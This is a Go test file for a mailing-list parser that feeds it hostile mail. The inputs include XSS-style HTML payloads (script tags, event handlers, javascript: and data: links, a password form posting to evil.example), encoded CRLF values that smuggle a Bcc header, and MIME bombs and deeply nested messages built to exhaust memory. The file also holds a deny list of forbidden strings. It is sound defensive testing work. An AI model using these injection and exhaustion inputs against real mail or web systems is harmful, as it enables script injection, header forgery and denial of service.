package mailparse

import (
	"encoding/base64"
	"errors"
	"fmt"
	"runtime"
	"runtime/debug"
	"strings"
	"testing"
	"time"
)

// This file holds mail written to hurt: markup that would run or load something if it
// reached a page unsanitised, text hidden from the reader, headers carrying line breaks,
// and messages built to exhaust time or memory. The digest and web UI packages push the
// same kind of mail through the whole pipeline (their hostile_test.go); here the parser's
// part is checked: the text it extracts, and the bounds it keeps.
//
// Rerun the bounds and see the figures with
//
//	go test -run 'TestHostile' -v ./internal/mailparse
//	go test -run '^$' -bench BenchmarkHostile -benchmem ./internal/mailparse

// hostileHeader is the header of a list post from a hostile sender.
func hostileHeader(subject string) string {
	return "From: Mallory <mallory@evil.example>\r\nTo: LM_NET <lm_net@listserv.syr.edu>\r\n" +
		"List-Id: LM_NET <lm_net.listserv.syr.edu>\r\nMessage-ID: <hostile@evil.example>\r\n" +
		"Date: Tue, 10 Mar 2026 09:00:00 +0000\r\nSubject: " + subject + "\r\nMIME-Version: 1.0\r\n"
}

// htmlMessage is a post whose only body is this HTML.
func htmlMessage(subject, body string) []byte {
	return []byte(hostileHeader(subject) + "Content-Type: text/html; charset=utf-8\r\n\r\n" + body)
}

// forbiddenInText are what no extracted text may contain: script bodies, URLs of
// trackers and attackers, CSS, dangerous link targets, and the words of hidden elements
// (every hidden test text says HIDDEN).
var forbiddenInText = []string{"alert(", "stealCookies", "evil.example", "tracker.example", "expression(",
	"@import", "msgbox", "javascript:", "vbscript:", "data:", "HIDDEN", "onerror", "onload", "onmouseover"}

// TestHostileHTMLText checks the text extracted from hostile HTML: what a reader of the
// mail sees, without script or style bodies, hidden text, or dangerous link targets.
func TestHostileHTMLText(t *testing.T) {
	tests := []struct {
		name, html string
		want       []string // visible words that must survive
	}{
		{"script elements", `<p>Hello librarians</p><script>stealCookies()</script><ScRiPt type="text/javascript">alert("x")</sCrIpT>` +
			`<script src="https://evil.example/x.js"></script><p>after the scripts</p>`, []string{"Hello librarians", "after the scripts"}},
		{"event handler attributes", `<p onmouseover="alert(1)">Hover text</p><img src=x onerror="alert(2)"><body onload="alert(3)">`,
			[]string{"Hover text"}},
		{"dangerous link targets", `<a href="javascript:alert(3)">Read more</a> <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==">the doc</a> ` +
			`<a href="vbscript:msgbox(5)">vb</a> <a href=" jav&#x09;ascript:alert(6)">tabbed</a> <a href="JAVASCRIPT:alert(7)">caps</a> ` +
			`<a href="https://books.example.org/list">the list</a>`, []string{"Read more", "the doc", "tabbed", "caps", "https://books.example.org/list"}},
		{"remote images", `<p>Newsletter</p><img src="https://tracker.example/open.gif?id=42" width=1 height=1>` +
			`<img src="https://tracker.example/banner.png" alt="">`, []string{"Newsletter"}},
		{"style sheets", `<style>@import url(https://evil.example/a.css); body{background:url(https://tracker.example/bg.gif)} ` +
			`p{width:expression(alert(7))}</style><p style="background:url(https://tracker.example/p.gif)">Styled words</p>`, []string{"Styled words"}},
		{"embedding and forms", `<iframe src="https://evil.example/frame">HIDDEN iframe text</iframe>` +
			`<object data="https://evil.example/x.swf">object fallback</object><embed src="https://evil.example/x.swf">` +
			`<form action="https://evil.example/steal"><input name=password value=pw><button>Log in</button></form>` +
			`<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><p>Form done</p>`,
			[]string{"object fallback", "Log in", "Form done"}},
		{"svg with script", `<svg onload="alert(8)"><script>alert(9)</script><a xlink:href="javascript:alert(10)"><text>svg words</text></a></svg>`,
			[]string{"svg words"}},
		{"text hidden by css", `<p>Visible start.</p><div style="display:none">HIDDEN one</div><span style="DISPLAY : NONE !important">HIDDEN two</span>` +
			`<p style="position:absolute;left:-9999px">HIDDEN three</p><p hidden>HIDDEN four</p><span style="font-size:0px">HIDDEN five</span>` +
			`<div style="max-height:0;overflow:hidden;mso-hide:all">HIDDEN six</div><p style="visibility:hidden">HIDDEN seven</p>` +
			`<p style="opacity:0">HIDDEN eight</p><p style="text-indent:-5000px">HIDDEN nine</p><p style="font-size:0.9em">Visible end.</p>`,
			[]string{"Visible start.", "Visible end."}},
		{"entities stay text", `<p>Try &lt;script&gt;visibleCode()&lt;/script&gt; &amp; see</p>`, []string{"<script>visibleCode()</script> & see"}},
		{"unclosed tags", `<p>Unclosed <b>bold <i>italic <a href="javascript:alert(12)">link <script>alert(13)`, []string{"Unclosed", "bold", "italic", "link"}},
		{"comments", `<p>Before</p><!-- <script>alert(14)</script> HIDDEN comment --><!--[if mso]><p>HIDDEN mso</p><![endif]--><p>After</p>`,
			[]string{"Before", "After"}},
		{"template and noscript", `<template><p>HIDDEN template</p></template><noscript><b>No scripts here</b></noscript>`, []string{"No scripts here"}},
		// Deeper than the HTML parser's 512 levels: the fallback converter must keep the same promises.
		{"too deep for the parser", strings.Repeat("<div>", 600) + `<p>Deep visible</p><script>alert(15)</script><div style="display:none">HIDDEN <div>nested</div> deep</div>` +
			`<!-- HIDDEN comment --><a href="javascript:alert(16)">deep link</a><br style="display:none"><p>Deep end</p>`, []string{"Deep visible", "deep link", "Deep end"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m, err := mustParse(t, tt.name, htmlMessage("HTML test", tt.html), testOpts())
			if err != nil {
				t.Errorf("error = %v", err)
			}
			if m.TextSource != "text/html" {
				t.Errorf("TextSource = %q", m.TextSource)
			}
			for _, bad := range forbiddenInText {
				if strings.Contains(m.Text, bad) {
					t.Errorf("Text contains %q:\n%s", bad, m.Text)
				}
			}
			for _, w := range tt.want {
				if !strings.Contains(m.Text, w) {
					t.Errorf("Text lacks %q:\n%s", w, m.Text)
				}
			}
		})
	}
}

// TestHostileHeaders checks that markup in headers stays text, and that no decoded header
// keeps a line break or NUL that could start a header line wherever it is written again.
func TestHostileHeaders(t *testing.T) {
	enc := func(s string) string { return "=?UTF-8?B?" + base64.StdEncoding.EncodeToString([]byte(s)) + "?=" }
	tests := []struct {
		name, from, subject string
		wantSubject         string
		wantFrom            Address
	}{
		{"markup", `"<b>Jane</b> \"><script>alert(1)</script>" <jane@school.example>`, `<b>Bold</b> "><script>alert(2)</script>`,
			`<b>Bold</b> "><script>alert(2)</script>`, Address{Name: `<b>Jane</b> "><script>alert(1)</script>`, Addr: "jane@school.example"}},
		{"encoded markup", enc(`<img src=x onerror=alert(3)>`) + " <jane@school.example>", enc("<script>alert(4)</script>"),
			"<script>alert(4)</script>", Address{Name: "<img src=x onerror=alert(3)>", Addr: "jane@school.example"}},
		{"encoded CRLF", enc("Jane\r\nBcc: x@evil.example") + " <jane@school.example>", "=?UTF-8?Q?Hi=0D=0ABcc:_x@evil.example?=",
			"Hi Bcc: x@evil.example", Address{Name: "Jane Bcc: x@evil.example", Addr: "jane@school.example"}},
		// ":" and "@" are not allowed in a Q-encoded word of a display name (RFC 2047 5.3):
		// the parser reads the colon as a group, as mail programs do; only the address counts.
		{"encoded CRLF, Q in a name", "=?UTF-8?Q?Jane=0D=0ABcc:_x@evil.example?= <jane@school.example>", "x",
			"x", Address{Addr: "jane@school.example"}},
		{"encoded LF and NUL", enc("Jane\n\x00Smith") + " <jane@school.example>", enc("a\nTo: x@evil.example\x00b"),
			"a To: x@evil.example b", Address{Name: "Jane Smith", Addr: "jane@school.example"}},
		{"quotes commas and brackets", `"Smith, Jane <boss@evil.example>" <jane@school.example>`, `Re: "quoted", <angled>`,
			`Re: "quoted", <angled>`, Address{Name: "Smith, Jane <boss@evil.example>", Addr: "jane@school.example"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			raw := "From: " + tt.from + "\r\nSubject: " + tt.subject + "\r\nMessage-ID: <h@school.example>\r\n" +
				"List-Id: <lm_net.listserv.syr.edu>\r\n\r\nbody\r\n"
			m, _ := mustParse(t, tt.name, []byte(raw), testOpts())
			if m.Subject != tt.wantSubject {
				t.Errorf("Subject = %q; want %q", m.Subject, tt.wantSubject)
			}
			if m.From.Addr != tt.wantFrom.Addr || (tt.wantFrom.Name != "" && m.From.Name != tt.wantFrom.Name) {
				t.Errorf("From = %+v; want %+v", m.From, tt.wantFrom)
			}
			for _, s := range []string{m.Subject, m.From.Name, m.From.Addr, m.HeaderFrom.Name, m.HeaderFrom.Addr} {
				if strings.ContainsAny(s, "\r\n\x00") {
					t.Errorf("decoded header %q keeps a control character", s)
				}
			}
		})
	}
}

// hostileBound is a message built to cost time or memory, the bounds Parse must keep on
// it, and what it must say about it.
type hostileBound struct {
	name string
	raw  func() []byte
	// maxAlloc bounds the bytes Parse allocates (runtime.MemStats.TotalAlloc), about three
	// times what was measured on a 2-core machine.
	maxAlloc uint64
	// check looks at the result: the limit that cut in must be named.
	check func(t *testing.T, m *Message, err error)
}

// maxHostileTime is a runaway guard on one Parse of any hostile message: the slowest takes
// about 0.2 s alone on a 2-core machine but 5 s when other test binaries share it (the
// figures are in the benchmarks). Regressions are caught by the allocation bounds and, for
// CPU-only work, by TestHostileEncodedWordsLinear's comparison.
const maxHostileTime = 30 * time.Second

const mb1 = 1 << 20

var hostileBounds = []hostileBound{
	{
		name: "25 MB: a base64 attachment and a text part",
		raw: func() []byte {
			var sb strings.Builder
			sb.WriteString(hostileHeader("Scans of the yearbook") + "Content-Type: multipart/mixed; boundary=b\r\n\r\n" +
				"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nThe scans are attached.\r\n" +
				"--b\r\nContent-Type: application/pdf; name=scans.pdf\r\nContent-Disposition: attachment; filename=scans.pdf\r\n" +
				"Content-Transfer-Encoding: base64\r\n\r\n")
			line := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("%PDF binary ", 5)[:57])) + "\r\n"
			for sb.Len() < 25_000_000 {
				sb.WriteString(line)
			}
			sb.WriteString("--b--\r\n")
			return []byte(sb.String())
		},
		maxAlloc: 4 * mb1, // measured 0.1 MB: the attachment is never decoded or copied
		check: func(t *testing.T, m *Message, err error) {
			if err != nil || m.Truncated || m.Text != "The scans are attached." || len(m.Parts) != 2 || m.Parts[1].Filename != "scans.pdf" {
				t.Errorf("err %v, Truncated %v, Text %q, Parts %+v", err, m.Truncated, m.Text, m.Parts)
			}
		},
	},
	{
		name: "27 MB: over the size cap",
		raw: func() []byte {
			var sb strings.Builder
			sb.WriteString(hostileHeader("Too big") + "Content-Type: multipart/mixed; boundary=b\r\n\r\n" +
				"--b\r\nContent-Type: text/plain\r\n\r\nFirst words.\r\n--b\r\nContent-Type: application/octet-stream\r\n" +
				"Content-Transfer-Encoding: base64\r\n\r\n")
			line := strings.Repeat("QUJD", 19) + "\r\n"
			for sb.Len() < 27<<20 {
				sb.WriteString(line)
			}
			sb.WriteString("--b\r\nContent-Type: text/plain\r\n\r\nNot read.\r\n--b--\r\n")
			return []byte(sb.String())
		},
		maxAlloc: 4 * mb1,
		check: func(t *testing.T, m *Message, err error) {
			if !m.Truncated || m.Text != "First words." || !hasNote(m, "over the 25 MB cap: kept headers and the first text part") {
				t.Errorf("Truncated %v, Text %q, Notes %q", m.Truncated, m.Text, m.Notes)
			}
		},
	},
	{
		name: "10,000-part MIME bomb",
		raw: func() []byte {
			var sb strings.Builder
			sb.WriteString(hostileHeader("Bomb") + "Content-Type: multipart/mixed; boundary=b\r\n\r\n")
			for i := 0; i < 10000; i++ {
				fmt.Fprintf(&sb, "--b\r\nContent-Type: text/plain\r\n\r\npart %d\r\n", i)
			}
			sb.WriteString("--b--\r\n")
			return []byte(sb.String())
		},
		maxAlloc: 8 * mb1, // measured 2 MB
		check: func(t *testing.T, m *Message, err error) {
			if !errors.Is(err, ErrMalformedMIME) || !strings.Contains(err.Error(), "more than 1000 MIME parts") ||
				!hasNote(m, "more than 1000 MIME parts: the rest were skipped") || len(m.Parts) > maxParts || m.Text != "part 0" {
				t.Errorf("err %v, %d parts, Text %q, Notes %q", err, len(m.Parts), m.Text, m.Notes)
			}
		},
	},
	{
		name: "1 MB References header first",
		raw: func() []byte {
			var sb strings.Builder
			sb.WriteString("References:")
			for i := 0; sb.Len() <= mb1; i++ {
				fmt.Fprintf(&sb, "\r\n <ref%d@evil.example>", i)
			}
			return []byte(sb.String() + "\r\n" + hostileHeader("Long references") + "\r\nbody\r\n")
		},
		maxAlloc: 4 * mb1,
		check: func(t *testing.T, m *Message, err error) {
			// Before the fix, the fields after the huge one were dropped too: no Message-ID,
			// From, List-Id or Subject.
			if !errors.Is(err, ErrMalformedHeader) || !hasNote(m, "1 field(s) dropped (References)") ||
				m.MessageID != "hostile@evil.example" || m.From.Addr != "mallory@evil.example" || m.List.ID == "" || m.Subject != "Long references" {
				t.Errorf("err %v, id %q, from %+v, list %q, subject %q, notes %q", err, m.MessageID, m.From, m.List.ID, m.Subject, m.Notes)
			}
		},
	},
	{
		name: "1 MB Subject",
		raw: func() []byte {
			return []byte("Subject: " + strings.Repeat("Free books ", mb1/11+1) + "\r\n" +
				strings.Replace(hostileHeader("x"), "Subject: x\r\n", "", 1) + "\r\nbody\r\n")
		},
		maxAlloc: 4 * mb1,
		check: func(t *testing.T, m *Message, err error) {
			if !errors.Is(err, ErrMalformedHeader) || !hasNote(m, "1 field(s) dropped (Subject)") || m.Subject != "" ||
				m.MessageID != "hostile@evil.example" || m.List.ID == "" {
				t.Errorf("err %v, id %q, list %q, subject %.40q, notes %q", err, m.MessageID, m.List.ID, m.Subject, m.Notes)
			}
		},
	},
	{
		name: "900 KB Subject of unterminated encoded words",
		raw: func() []byte {
			// Each "=?" searched to the end for "?=": quadratic before the fix (0.2 s for
			// 200 KB, seconds for this).
			return []byte(hostileHeader(strings.Repeat("=?a?q?b", 900<<10/7)) + "\r\nbody\r\n")
		},
		maxAlloc: 24 * mb1, // measured 7.7 MB
		check: func(t *testing.T, m *Message, err error) {
			if err != nil || len(m.Subject) < 900<<10-10 {
				t.Errorf("err %v, len(Subject) %d", err, len(m.Subject))
			}
		},
	},
	{
		name: "6,000 header fields",
		raw: func() []byte {
			return []byte(hostileHeader("Many fields") + strings.Repeat("X-Junk: yes\r\n", 6000) + "\r\nbody\r\n")
		},
		maxAlloc: 8 * mb1, // measured 2.6 MB
		check: func(t *testing.T, m *Message, err error) {
			if !errors.Is(err, ErrMalformedHeader) || !hasNote(m, "over the limit of 5000 fields") || m.Text != "body" {
				t.Errorf("err %v, Text %q, notes %q", err, m.Text, m.Notes)
			}
		},
	},
	{
		name: "multipart nested 1,000 deep",
		raw: func() []byte {
			var sb strings.Builder
			sb.WriteString(hostileHeader("Deep") + "Content-Type: multipart/mixed; boundary=b0\r\n\r\n")
			for i := 1; i <= 1000; i++ {
				fmt.Fprintf(&sb, "--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n", i-1, i)
			}
			sb.WriteString("--b1000\r\nContent-Type: text/plain\r\n\r\ndeep text\r\n--b1000--\r\n")
			for i := 999; i >= 0; i-- {
				fmt.Fprintf(&sb, "--b%d--\r\n", i)
			}
			return []byte(sb.String())
		},
		maxAlloc: 2 * mb1, // measured 0.2 MB
		check: func(t *testing.T, m *Message, err error) {
			if !errors.Is(err, ErrMalformedMIME) || !hasNote(m, "nesting deeper than 50 levels: not walked further") {
				t.Errorf("err %v, notes %q", err, m.Notes)
			}
		},
	},
	{
		name: "message/rfc822 nested 1,000 deep",
		raw: func() []byte {
			return []byte(hostileHeader("Forwarded forever") + "Content-Type: message/rfc822\r\n\r\n" +
				strings.Repeat("Subject: fwd\r\nContent-Type: message/rfc822\r\n\r\n", 1000) + "Subject: inner\r\n\r\ninnermost\r\n")
		},
		maxAlloc: 2 * mb1, // measured 0.2 MB
		check: func(t *testing.T, m *Message, err error) {
			if !errors.Is(err, ErrMalformedMIME) || !hasNote(m, "nesting deeper than 50 levels") {
				t.Errorf("err %v, notes %q", err, m.Notes)
			}
		},
	},
	{
		name: "HTML: 500 nested <b> around 3 MB of text",
		raw: func() []byte {
			// html2text copied the text once per level: 49 s and 13 GB before pruneHTML.
			return htmlMessage("Bold", strings.Repeat("<b>", 500)+strings.Repeat("word ", 3*mb1/5))
		},
		maxAlloc: 400 * mb1, // measured 151 MB (the parser's tree and html2text's buffers)
		check: func(t *testing.T, m *Message, err error) {
			// Three levels of bold are kept (maxEmphasisNesting), the rest are spans.
			if !strings.HasPrefix(m.Text, "***word word") || !hasNote(m, "Text cut to its first 2 MB") {
				t.Errorf("Text %.40q, notes %q", m.Text, m.Notes)
			}
		},
	},
	{
		name: "HTML: 500 nested blockquotes around 3 MB of <br>",
		raw: func() []byte {
			// Quote marks of every level on every line: 7 s and 2.8 GB before pruneHTML.
			return htmlMessage("Quotes", strings.Repeat("<blockquote>", 500)+strings.Repeat("<br>", 3*mb1/4))
		},
		maxAlloc: 32 * mb1, // measured 11 MB (more tags than maxHTMLTags: converted by stripTags)
		check:    func(t *testing.T, m *Message, err error) {},
	},
	{
		name: "HTML: 500 nested blockquotes around 3 MB of text",
		raw: func() []byte {
			return htmlMessage("Quotes", strings.Repeat("<blockquote>", 500)+strings.Repeat("word ", 3*mb1/5))
		},
		maxAlloc: 300 * mb1, // measured 99 MB
		check: func(t *testing.T, m *Message, err error) {
			deepest := strings.Repeat(">", maxQuoteNesting)
			if !strings.Contains(m.Text, "\n"+deepest+" word word") || strings.Contains(m.Text, deepest+">") {
				t.Errorf("Text %.80q", m.Text)
			}
		},
	},
	{
		name: "HTML: 3 MB of unclosed formatting tags",
		raw: func() []byte {
			// 2.3 million nodes in the parser's tree, 350 MB, before maxHTMLTags.
			return htmlMessage("Unclosed", strings.Repeat("<p><b><i><u><span>", 3*mb1/19))
		},
		maxAlloc: 32 * mb1, // measured 10 MB (converted by stripTags)
		check:    func(t *testing.T, m *Message, err error) {},
	},
	{
		name: "HTML: a 3 MB data: link",
		raw: func() []byte {
			return htmlMessage("Data", `<p>See <a href="data:text/html;base64,`+strings.Repeat("PHNjcmlwdD4", 3*mb1/11)+`">this</a></p>`)
		},
		maxAlloc: 64 * mb1, // measured 17 MB
		check: func(t *testing.T, m *Message, err error) {
			if m.Text != "See this" {
				t.Errorf("Text %.80q", m.Text)
			}
		},
	},
}

func hasNote(m *Message, s string) bool {
	for _, n := range m.Notes {
		if strings.Contains(n, s) {
			return true
		}
	}
	return false
}

// raceEnabled reports a test binary built with -race, which runs about ten times slower.
func raceEnabled() bool {
	if bi, ok := debug.ReadBuildInfo(); ok {
		for _, s := range bi.Settings {
			if s.Key == "-race" {
				return s.Value == "true"
			}
		}
	}
	return false
}

// measure runs f once and returns the bytes it allocated and how long it took.
func measure(f func()) (uint64, time.Duration) {
	runtime.GC()
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	start := time.Now()
	f()
	d := time.Since(start)
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc, d
}

// TestHostileBounds parses each resource-hungry message once and checks its allocation
// against a bound (the real assertion) and its time against a loose one (a runaway
// check), then what the message says about the limit that cut in.
func TestHostileBounds(t *testing.T) {
	limit, race := maxHostileTime, raceEnabled()
	if race {
		// The race detector slows everything about tenfold and changes what escapes to the
		// heap (html2text then allocates seven times as much): only the time is checked.
		limit *= 10
	}
	for _, hb := range hostileBounds {
		t.Run(hb.name, func(t *testing.T) {
			raw := hb.raw()
			var m *Message
			var err error
			alloc, d := measure(func() { m, err = Parse(raw, testOpts()) })
			t.Logf("%.1f MB: %v, %.1f MB allocated; error: %.120v", float64(len(raw))/mb1, d.Round(time.Millisecond), float64(alloc)/mb1, err)
			if alloc > hb.maxAlloc && !race {
				t.Errorf("allocated %.1f MB; want at most %.0f MB", float64(alloc)/mb1, float64(hb.maxAlloc)/mb1)
			}
			if d > limit {
				t.Errorf("took %v; want at most %v", d, limit)
			}
			if e := checkInvariants(m); e != nil {
				t.Error(e)
			}
			hb.check(t, m, err)
		})
	}
}

// TestHostileEncodedWordsLinear compares the time to parse a Subject of 900 KB of
// unterminated encoded words with a Subject of 900 KB of plain words, parsed alternately
// so that a busy machine slows both alike. The scan for the end of each word was
// quadratic: 8.6 s against 8 ms for the plain Subject before the fix, about the same
// time as the plain one after.
func TestHostileEncodedWordsLinear(t *testing.T) {
	words := []byte(hostileHeader(strings.Repeat("=?a?q?b", 900<<10/7)) + "\r\nbody\r\n")
	plain := []byte(hostileHeader(strings.Repeat("plain b", 900<<10/7)) + "\r\nbody\r\n")
	best := func(raw []byte) time.Duration {
		var min time.Duration
		for i := 0; i < 3; i++ {
			start := time.Now()
			Parse(raw, testOpts())
			if d := time.Since(start); i == 0 || d < min {
				min = d
			}
		}
		return min
	}
	var w, p time.Duration
	for i := 0; i < 3; i++ {
		w, p = best(words), best(plain)
		if w < 30*p+20*time.Millisecond {
			break
		}
	}
	t.Logf("900 KB Subject: %v of encoded words, %v of plain words", w, p)
	if w >= 30*p+20*time.Millisecond {
		t.Errorf("unterminated encoded words took %v, plain words %v: superlinear", w, p)
	}
}

// BenchmarkHostile times Parse on each resource-hungry message of TestHostileBounds.
func BenchmarkHostile(b *testing.B) {
	for _, hb := range hostileBounds {
		raw := hb.raw()
		b.Run(strings.NewReplacer(" ", "_", ",", "").Replace(hb.name), func(b *testing.B) {
			opts := testOpts()
			b.SetBytes(int64(len(raw)))
			b.ReportAllocs()
			for b.Loop() {
				Parse(raw, opts)
			}
		})
	}
}
